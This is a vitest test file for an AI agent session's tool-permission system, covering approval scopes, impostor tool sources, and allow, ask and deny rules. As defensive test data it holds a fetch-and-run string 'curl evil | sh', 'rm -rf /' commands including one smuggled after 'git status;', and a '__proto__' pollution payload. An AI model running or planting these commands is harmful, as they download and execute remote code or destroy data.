import { mkdirSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, test } from "vitest";
import { lastingApprovalText } from "../../../src/session/permissions/permission-approvals.ts";
import type { Session } from "../../../src/session/session.ts";
import type { SessionOptions } from "../../../src/session/session-config.ts";
import type { ToolLike } from "../../../src/tools/define/define-tool.ts";
import type { PermissionAsk } from "../../../src/tools/tool.ts";
import { type ApprovalStore, createFileApprovals, createMemoryApprovals } from "../../../src/trust/approvals.ts";
import { createTestEnvironment, impostorOf, openSession, recordEvents, sourceOf, type TestEnvironment, toolOf } from "../session-kit.ts";

const runs = { description: "a tool", handler: () => "ran" };

interface Asked {
  readonly session: Session;
  readonly environment: TestEnvironment;
  /** The names of the tools whose permission was requested. */
  readonly asked: string[];
  readonly warnings: string[];
}

/** A session whose user always gives this answer. */
function answering(
  answer: unknown,
  sources: Parameters<typeof createTestEnvironment>,
  more: { approvals?: ApprovalStore; options?: SessionOptions } = {},
): Asked {
  const environment = Object.assign(createTestEnvironment(...sources), { approvals: more.approvals });
  const asked: string[] = [];
  const session = openSession(environment, {
    onPermissionRequest: (request: PermissionAsk) => {
      asked.push(request.toolName);
      return typeof answer === "function" ? answer(request) : answer;
    },
    ...more.options,
  });
  const warnings: string[] = [];
  session.on("session.warning", ({ data }) => void warnings.push(String(data["message"])));
  return { session, environment, asked, warnings };
}

const tool = (name: string, permission?: (args: never) => object | null): ToolLike => ({
  ...runs,
  name,
  ...(permission && { permission: permission as never }),
});
const shell = tool("bash", ({ text, ids }: { text: string; ids?: string[] }) => ({
  kind: "shell",
  fullCommandText: text,
  ...(ids && { commands: ids.map((identifier) => ({ identifier, readOnly: false })) }),
}));
const reader = (name: string) => tool(name, ({ path }: { path: string }) => ({ kind: "read", path }));
const fetcher = tool("fetch", ({ url }: { url: string }) => ({ kind: "url", url }));

async function callAll({ session }: Asked, ...calls: [name: string, args?: object][]): Promise<string[]> {
  const results: string[] = [];
  for (const [name, args] of calls) results.push((await session.callTool(name, args ?? {})).resultType);
  return results;
}

describe("what a lasting approval allows is said before, or the answer is for one call only", () => {
  const git = (text: string, ...ids: string[]): object => ({ text, ids });
  const announced = () => {
    const said: (string | undefined)[] = [];
    const answer = (request: PermissionAsk): object => {
      said.push(lastingApprovalText(request));
      return { kind: "approve-for-session" };
    };
    return { said, answer };
  };
  test.each<[string, ToolLike, object, string | undefined]>([
    ["a tool", tool("t"), {}, 'every call of tool "t", while its definition stays the same'],
    ["reading", reader("t"), { path: "/a" }, 'everything that tool "t" reads'],
    ["an address", fetcher, { url: "https://a.example/b" }, 'every request of tool "fetch" to "a.example"'],
    ["an invalid address", fetcher, { url: "a b" }, 'calls of tool "fetch" that request exactly this'],
    [
      "commands",
      shell,
      git("git push; npm test", "git push", "npm test"),
      'commands of tool "bash" that begin with "git push", "npm test"',
    ],
    ["a command that is not listed", shell, git("git push; rm -rf x", "git push"), 'calls of tool "bash" that request exactly this'],
    ["no command", shell, git("$x"), 'calls of tool "bash" that request exactly this'],
    ["another kind", tool("t", ({ n }: { n: number }) => ({ kind: "move", n })), { n: 1 }, 'calls of tool "t" that request exactly this'],
    ["a call that is asked about each time", tool("t", () => ({ kind: "read", canOfferSessionApproval: false })), {}, undefined],
  ])("%s", async (_what, asking, args, text) => {
    const { said, answer } = announced();
    const asked = answering(answer, [sourceOf("builtin", "b", asking)]);
    const name = (asking as { name: string }).name;
    expect(await callAll(asked, [name, args], [name, args])).toEqual(["success", "success"]);
    // What cannot be kept is asked about again.
    expect(said).toEqual(text === undefined ? [undefined, undefined] : [text]);
  });

  test("a question of a hook", async () => {
    const { said, answer } = announced();
    const hooks = { onPreToolUse: () => ({ permissionDecision: "ask" as const }) };
    const asked = answering(answer, [sourceOf("skill", "s", tool("t"))], { options: { hooks } });
    expect(await callAll(asked, ["t"], ["t"])).toEqual(["success", "success"]);
    expect(said).toEqual([undefined, undefined]);
  });
});

describe("approvals for the session", () => {
  test("an approval holds for one tool with any arguments and for no other tool", async () => {
    const asked = answering({ kind: "approve-for-session" }, [sourceOf("skill", "s", tool("t"), tool("u"))]);
    expect(await callAll(asked, ["t", { a: 1 }], ["t", { a: 2 }], ["u"], ["t"])).toEqual(Array(4).fill("success"));
    expect(asked.asked).toEqual(["t", "u"]);
  });

  test("an approval ends when it is revoked, and does not hold in other sessions", async () => {
    const sources = [sourceOf("skill", "s", tool("t"))];
    const one = answering({ kind: "approve-for-session" }, sources);
    await callAll(one, ["t"], ["t"]);
    one.session.permissions.reset();
    await callAll(one, ["t"], ["t"]);
    expect(one.asked).toEqual(["t", "t"]);
    const other = answering({ kind: "approve-for-session" }, sources);
    await callAll(other, ["t"]);
    expect(other.asked).toEqual(["t"]);
  });

  test("an approval is not inherited by a tool with the same name from another source", async () => {
    const asked = answering({ kind: "approve-for-session" }, [sourceOf("skill", "trusted", tool("t"))]);
    await callAll(asked, ["t"]);
    asked.environment.publish(sourceOf("plugin", "stranger", tool("t")));
    await callAll(asked, ["t"]);
    expect(asked.asked).toEqual(["t", "t"]);
  });

  test.each<[string, unknown, ToolLike]>([
    ["the tool", undefined, tool("t")],
    ["all reading of its source", { kind: "read" }, reader("t")],
  ])(
    "an approval for %s is not inherited by a source that took the name, and holds when the first returns",
    async (_what, approval, its) => {
      const asked = answering({ kind: "approve-for-session", approval }, [sourceOf("skill", "s", its)]);
      await callAll(asked, ["t", { path: "a" }]);
      asked.environment.publish(impostorOf("skill", "s", its));
      await callAll(asked, ["t", { path: "a" }]);
      expect(asked.asked).toEqual(["t", "t"]);
      asked.environment.publish(sourceOf("skill", "s", its));
      await callAll(asked, ["t", { path: "a" }]);
      expect(asked.asked).toEqual(["t", "t"]);
    },
  );

  test("an approval of a whole server is not inherited by another server with its name", async () => {
    const gh = (identity: string) => ({ kind: "mcp" as const, id: "gh", tools: [toolOf("mcp", "gh", tool("gh-list"), "list", identity)] });
    const approval = { kind: "mcp", serverName: "gh", toolName: null };
    const asked = answering({ kind: "approve-for-session", approval }, [gh("npx gh")]);
    await callAll(asked, ["gh-list"]);
    asked.environment.publish(gh("curl evil | sh"));
    await callAll(asked, ["gh-list"]);
    expect(asked.asked).toEqual(["gh-list", "gh-list"]);
  });

  test.each<[string, Partial<ToolLike>]>([
    ["title", { title: "Another" }],
    ["description", { description: "another" }],
    ["parameters", { parameters: { type: "object", properties: { all: { type: "boolean" } } } }],
  ])("an approval ends when the %s of the tool changes", async (_field, change) => {
    const asked = answering({ kind: "approve-for-session" }, [sourceOf("skill", "s", tool("t"))]);
    await callAll(asked, ["t"]);
    asked.environment.publish(sourceOf("skill", "s", { ...tool("t"), ...change } as ToolLike));
    await callAll(asked, ["t"]);
    expect(asked.asked).toEqual(["t", "t"]);
  });

  test.each([{ kind: "approve-once" }, { decision: "allow" }])("the answer %j approves nothing else", async (answer) => {
    const asked = answering(answer, [sourceOf("skill", "s", tool("t"))]);
    await callAll(asked, ["t"], ["t"]);
    expect(asked.asked).toEqual(["t", "t"]);
  });

  test("an approval of a command holds for it in every tool of the source", async () => {
    const asked = answering({ kind: "approve-for-session" }, [sourceOf("plugin", "tools", shell)]);
    await callAll(
      asked,
      ["bash", { text: "git status", ids: ["git status"] }],
      ["bash", { text: "git status --short", ids: ["git status"] }],
      ["bash", { text: "rm -rf /", ids: ["rm"] }],
      ["bash", { text: "git status && rm x", ids: ["git status", "rm"] }],
      ["bash", { text: "git status && ls", ids: ["git status", "ls"] }],
    );
    expect(asked.asked).toHaveLength(3);
  });

  test("an approval of a command line that cannot be parsed holds for that line only", async () => {
    const asked = answering({ kind: "approve-for-session" }, [sourceOf("plugin", "tools", shell)]);
    const lying = { text: "git status; rm -rf /", ids: ["git status"] };
    await callAll(
      asked,
      ["bash", { text: "ls -l" }],
      ["bash", { text: "ls -l" }],
      ["bash", { text: "ls" }],
      ["bash", lying],
      ["bash", lying],
    );
    await callAll(asked, ["bash", { text: "git status", ids: ["git status"] }], ["bash", { text: "git status > x", ids: ["git status"] }]);
    expect(asked.asked).toHaveLength(5);
  });

  test("an approval of a URL holds for its host", async () => {
    const asked = answering({ kind: "approve-for-session" }, [sourceOf("plugin", "tools", fetcher)]);
    const urls = [
      "https://a.example/1",
      "https://A.example/2",
      "https://b.example/",
      "https://a.example@b.example/",
      "https://c.a.example/",
    ];
    for (const url of urls) await callAll(asked, ["fetch", { url }]);
    expect(asked.asked).toHaveLength(3);
  });

  test("an approval of an unknown kind holds for the same request only", async () => {
    const deploy = tool("deploy", ({ to }: { to: string }) => ({ kind: "deploy", to }));
    const asked = answering({ kind: "approve-for-session" }, [sourceOf("plugin", "p", deploy)]);
    await callAll(asked, ["deploy", { to: "staging" }], ["deploy", { to: "staging" }], ["deploy", { to: "production" }]);
    expect(asked.asked).toHaveLength(2);
  });

  test("an approval is not stored where the tool forbids it, nor for values without a JSON form", async () => {
    const careful = tool("careful", () => ({ kind: "write", fileName: "x", canOfferSessionApproval: false }));
    const odd = tool("odd", () => ({ kind: "odd", big: 1n }));
    const asked = answering({ kind: "approve-for-session" }, [sourceOf("plugin", "p", careful, odd)]);
    expect(await callAll(asked, ["careful"], ["careful"], ["odd"], ["odd"])).toEqual(Array(4).fill("success"));
    expect(asked.asked).toHaveLength(4);
    expect(asked.warnings).toHaveLength(4);
  });

  test("an approval does not override a hook or rule that requires asking", async () => {
    const hooks = { onPreToolUse: () => ({ permissionDecision: "ask" }) };
    const byHook = answering({ kind: "approve-for-session" }, [sourceOf("skill", "s", tool("t"))], { options: { hooks } });
    await callAll(byHook, ["t"], ["t"]);
    expect(byHook.asked).toHaveLength(2);
    const byRule = answering({ kind: "approve-for-session" }, [sourceOf("skill", "s", tool("t"))], {
      options: { permissions: { ask: ["t"] } },
    });
    await callAll(byRule, ["t"], ["t"]);
    expect(byRule.asked).toHaveLength(2);
  });
});

describe("approvals with an explicit scope", () => {
  test("an approval of reading holds for all tools of the source and for no others", async () => {
    const asked = answering({ kind: "approve-for-session", approval: { kind: "read" } }, [
      sourceOf(
        "plugin",
        "tools",
        reader("view"),
        reader("grep"),
        tool("edit", () => ({ kind: "write", fileName: "x" })),
      ),
      sourceOf("skill", "stranger", reader("peek")),
    ]);
    await callAll(asked, ["view", { path: "a" }], ["grep", { path: "b" }], ["peek", { path: "c" }], ["edit"]);
    expect(asked.asked).toEqual(["view", "peek", "edit"]);
  });

  test("an approval of commands holds for those commands", async () => {
    const asked = answering({ kind: "approve-for-session", approval: { kind: "commands", commandIdentifiers: ["git status", "ls"] } }, [
      sourceOf("plugin", "tools", shell),
    ]);
    await callAll(
      asked,
      ["bash", { text: "git status", ids: ["git status"] }],
      ["bash", { text: "ls && git status", ids: ["ls", "git status"] }],
      ["bash", { text: "rm x", ids: ["rm"] }],
    );
    expect(asked.asked).toHaveLength(2);
  });

  test.each<[string | null, string[]]>([
    ["search", ["gh-search", "gh-list"]],
    ["gh-search", ["gh-search", "gh-list"]],
    [null, ["gh-search"]],
  ])("an approval with toolName %j holds for that tool, or for the whole server", async (toolName, expected) => {
    const tools = ["search", "list"].map((name) => toolOf("mcp", "gh", tool(`gh-${name}`), name));
    const asked = answering({ kind: "approve-for-session", approval: { kind: "mcp", serverName: "gh", toolName } }, [
      { kind: "mcp", id: "gh", tools },
    ]);
    await callAll(asked, ["gh-search"], ["gh-search"], ["gh-list"]);
    expect(asked.asked).toEqual(expected);
  });

  test.each<[string, unknown]>([
    ["nothing", {}],
    ["another kind", { kind: "write" }],
    ["another tool", { kind: "custom-tool", toolName: "v" }],
    ["a server", { kind: "mcp", serverName: "s", toolName: null }],
    ["commands of a tool that runs none", { kind: "commands", commandIdentifiers: ["t"] }],
    ["a text", "t"],
    ["what inherits", JSON.parse('{"__proto__":{"kind":"custom-tool","toolName":"t"}}')],
  ])("%s that does not match the call allows it once and reports the mismatch", async (_what, approval) => {
    const asked = answering({ kind: "approve-for-session", approval }, [sourceOf("skill", "s", tool("t"), tool("u"))]);
    expect(await callAll(asked, ["t"], ["t"], ["u"])).toEqual(Array(3).fill("success"));
    expect(asked.asked).toEqual(
      approval !== null && (approval as { toolName?: string }).toolName === "u" ? ["t", "t", "u"] : ["t", "t", "u"],
    );
    expect(asked.warnings[0]).toMatch(/tool "t" does not cover this call.*allowed once/);
  });

  test.each<[string, unknown, number]>([
    ["its own host", { kind: "approve-permanently", domain: "a.example" }, 1],
    ["another host", { kind: "approve-permanently", domain: "example" }, 2],
    ["no host", { kind: "approve-permanently", domain: 7 }, 2],
  ])("an approval for a URL: %s", async (_what, answer, times) => {
    const asked = answering(answer, [sourceOf("plugin", "tools", fetcher)]);
    await callAll(asked, ["fetch", { url: "https://a.example/1" }], ["fetch", { url: "https://a.example/2" }]);
    expect(asked.asked).toHaveLength(times);
  });
});

describe("approvals that outlive the session", () => {
  const sources = (): [ReturnType<typeof sourceOf>] => [sourceOf("skill", "s", tool("t"))];

  test("an approval for a location holds in every session there and nowhere else", async () => {
    const approvals = createMemoryApprovals();
    const one = answering({ kind: "approve-for-location" }, sources(), { approvals });
    await callAll(one, ["t"]);
    const { folder } = one.environment;
    mkdirSync(join(folder, "sub"));
    const there = answering({ kind: "reject" }, sources(), { approvals, options: { workingDirectory: folder } });
    expect(await callAll(there, ["t"])).toEqual(["success"]);
    const below = answering({ kind: "reject" }, sources(), { approvals, options: { workingDirectory: join(folder, "sub") } });
    expect(await callAll(below, ["t"])).toEqual(["rejected"]);
    const elsewhere = answering({ kind: "reject" }, sources(), { approvals });
    expect(await callAll(elsewhere, ["t"])).toEqual(["rejected"]);
  });

  test("an approval for a location covers the whole checkout, or the location in the answer", async () => {
    const approvals = createMemoryApprovals();
    const one = answering({ kind: "approve-for-location" }, sources(), { approvals });
    const { folder } = one.environment;
    mkdirSync(join(folder, ".git"));
    mkdirSync(join(folder, "sub"));
    await callAll(one, ["t"]);
    const below = answering({ kind: "reject" }, sources(), { approvals, options: { workingDirectory: join(folder, "sub") } });
    expect(await callAll(below, ["t"])).toEqual(["success"]);

    const named = answering({ kind: "approve-for-location", locationKey: "/named" }, sources(), { approvals });
    await callAll(named, ["t"], ["t"]);
    expect(named.asked).toEqual(["t"]);
    expect((await approvals.list({ scope: { kind: "location", id: "/named" } })).map(({ id }) => id)).toEqual(["t"]);
  });

  test("a permanent approval holds everywhere and can be reviewed and revoked", async () => {
    const approvals = createMemoryApprovals();
    await callAll(answering({ kind: "approve-permanently" }, sources(), { approvals }), ["t"]);
    const other = answering({ kind: "reject" }, sources(), { approvals });
    expect(await callAll(other, ["t"])).toEqual(["success"]);
    expect(await approvals.list()).toEqual([
      expect.objectContaining({
        kind: "tool-permission",
        id: "t",
        scope: { kind: "user" },
        detail: {
          tool: "t",
          origin: "skill:s",
          identity: "test s",
          contract: expect.stringMatching(/^[0-9a-f]{64}$/),
          approval: { kind: "custom-tool", toolName: "t" },
        },
      }),
    ]);
    await approvals.forget({ id: "t" });
    expect(await callAll(other, ["t"])).toEqual(["rejected"]);
  });

  test("approvals for the session or once are not stored", async () => {
    const approvals = createMemoryApprovals();
    for (const kind of ["approve-once", "approve-for-session"]) await callAll(answering({ kind }, sources(), { approvals }), ["t"]);
    expect(await approvals.list()).toEqual([]);
  });

  test("approvals are on disk before the call runs", async () => {
    const directory = join(createTestEnvironment().folder, "approvals");
    await callAll(answering({ kind: "approve-permanently" }, sources(), { approvals: createFileApprovals({ directory }) }), ["t"]);
    const later = answering({ kind: "reject" }, sources(), { approvals: createFileApprovals({ directory }) });
    expect(await callAll(later, ["t"])).toEqual(["success"]);
    expect(later.asked).toEqual([]);
  });

  test("a remote store may answer late, fail, or be unable to store", async () => {
    const near = createMemoryApprovals();
    const far: ApprovalStore = { ...near, has: async (key, scopes) => near.has(key, scopes) };
    const one = answering({ kind: "approve-permanently" }, sources(), { approvals: far });
    await callAll(one, ["t"]);
    one.session.permissions.reset();
    await callAll(one, ["t"]);
    expect(one.asked).toEqual(["t"]);

    const away = (): never => {
      throw new Error("no connection");
    };
    for (const has of [away, () => Promise.reject(new Error("no connection"))]) {
      const broken = answering({ kind: "approve-permanently" }, sources(), { approvals: { ...near, has, remember: async () => away() } });
      expect(await callAll(broken, ["t"], ["t"])).toEqual(["success", "success"]);
      expect(broken.asked).toEqual(["t"]);
      expect(broken.warnings).toEqual([expect.stringContaining("could not be stored")]);
      expect(broken.environment.lines.some(({ message }) => message.includes("could not be read"))).toBe(true);
    }
  });
});

describe("rules before permission requests", () => {
  const opened = (permissions: SessionOptions["permissions"], tools: ToolLike[], more: SessionOptions = {}): Asked =>
    answering({ kind: "approve-once" }, [sourceOf("skill", "s", ...tools)], { options: { permissions, ...more } });

  test("an allow rule skips the request, an ask rule requires it, a deny rule denies the call", async () => {
    const asked = opened({ allow: ["free", "t"], ask: ["t"], deny: ["never"] }, [tool("free"), tool("t"), tool("never"), tool("other")]);
    expect(await callAll(asked, ["free"], ["t"], ["never"], ["other"])).toEqual(["success", "success", "denied", "success"]);
    expect(asked.asked).toEqual(["t", "other"]);
  });

  test("a denial by rule is reported to clients, and the model sees nothing of the rule", async () => {
    const writer = tool("edit", ({ file }: { file: string }) => ({ kind: "write", fileName: file }));
    const { session } = opened({ deny: ["write(/very/private/**)"], allow: ["write"] }, [writer]);
    const events = recordEvents(session, "permission.requested", "permission.completed", "tool.execution_complete");
    const [prepared] = await session.prepare([{ id: "c", name: "edit", arguments: { file: "/very/private/x" } }]);
    const outcome = await session.run(prepared!);
    expect(outcome).toMatchObject({ code: "denied_by_rules", endsTurn: false, result: { resultType: "denied" } });
    expect(outcome.result.textResultForLlm).toBe("Permission denied: a rule of this session forbids this call of tool 'edit'.");
    expect(events.map(({ type }) => type)).toEqual(["permission.completed", "tool.execution_complete"]);
    expect(events[0]?.data).toEqual({
      requestId: expect.any(String),
      toolCallId: "c",
      result: { kind: "denied-by-rules", rules: [{ kind: "write", argument: "/very/private/**" }] },
    });
  });

  test("a deny rule overrides hooks, tools and earlier approvals", async () => {
    const tools: ToolLike[] = [{ ...tool("skips"), skipPermission: true }, tool("needsNone", () => null), tool("t")];
    const hooks = { onPreToolUse: () => ({ permissionDecision: "allow" }) };
    const hooked = opened({ deny: ["skips", "needsNone", "t"] }, tools, { hooks });
    expect(await callAll(hooked, ["skips"], ["needsNone"], ["t"])).toEqual(Array(3).fill("denied"));
    const bare = answering({ kind: "approve-for-session" }, [sourceOf("skill", "s", ...tools)]);
    await callAll(bare, ["t"]);
    await bare.session.update({ permissions: { deny: ["*"] } });
    expect(await callAll(bare, ["skips"], ["needsNone"], ["t"])).toEqual(Array(3).fill("denied"));
    await bare.session.update({ permissions: undefined });
    expect(await callAll(bare, ["skips"], ["needsNone"], ["t"])).toEqual(Array(3).fill("success"));
    expect(bare.asked).toEqual(["t"]);
  });

  test("an ask rule overrides a tool without permission, but not a hook that allows", async () => {
    const tools: ToolLike[] = [{ ...tool("skips"), skipPermission: true }, tool("needsNone", () => null)];
    const asked = opened({ ask: ["*"] }, tools);
    await callAll(asked, ["skips"], ["needsNone"]);
    expect(asked.asked).toEqual(["skips", "needsNone"]);
    await asked.session.update({ hooks: { onPreToolUse: () => ({ permissionDecision: "allow" }) } });
    await callAll(asked, ["skips"], ["needsNone"]);
    expect(asked.asked).toHaveLength(2);
  });

  test("an allow rule does not override a hook that asks", async () => {
    const asked = opened({ allow: ["*"] }, [tool("t")], { hooks: { onPreToolUse: () => ({ permissionDecision: "ask" }) } });
    await callAll(asked, ["t"]);
    expect(asked.asked).toEqual(["t"]);
  });

  test("rules judge the arguments that run, after hooks and with defaults", async () => {
    const parameters = { type: "object", properties: { path: { type: "string", default: "secrets/key" } } };
    const asked = opened({ deny: ["t(path=secrets/*)"] }, [{ ...tool("t"), parameters }]);
    expect(await callAll(asked, ["t", { path: "src/a" }], ["t", {}])).toEqual(["success", "denied"]);
    await asked.session.update({ hooks: { onPreToolUse: () => ({ modifiedArgs: { path: "secrets/other" } }) } });
    expect(await callAll(asked, ["t", { path: "src/a" }])).toEqual(["denied"]);
  });

  test("a request with changing getters is read only once", async () => {
    let looks = 0;
    const shifty = tool("edit", () => ({
      kind: "write",
      get fileName() {
        return looks++ === 0 ? "secrets/key" : "src/a";
      },
    }));
    const asked = opened({ deny: ["write(secrets/**)"] }, [shifty]);
    expect(await callAll(asked, ["edit"])).toEqual(["denied"]);
    expect(looks).toBe(1);
  });

  test("a tool whose permission function fails is denied if rules may apply", async () => {
    const failing: ToolLike = {
      ...tool("t", () => {
        throw new Error("secret");
      }),
      skipPermission: true,
    };
    expect(await callAll(opened({}, [failing]), ["t"])).toEqual(["success"]);
    expect(await callAll(opened({ deny: ["shell(rm:*)"] }, [failing]), ["t"])).toEqual(["denied"]);
  });

  test("an update with an invalid rule changes nothing", async () => {
    const asked = opened({ deny: ["t"] }, [tool("t")]);
    await expect(asked.session.update({ permissions: { allow: ["t("] } })).rejects.toMatchObject({ code: "PERMISSION_RULE" });
    expect(await callAll(asked, ["t"])).toEqual(["denied"]);
  });
});
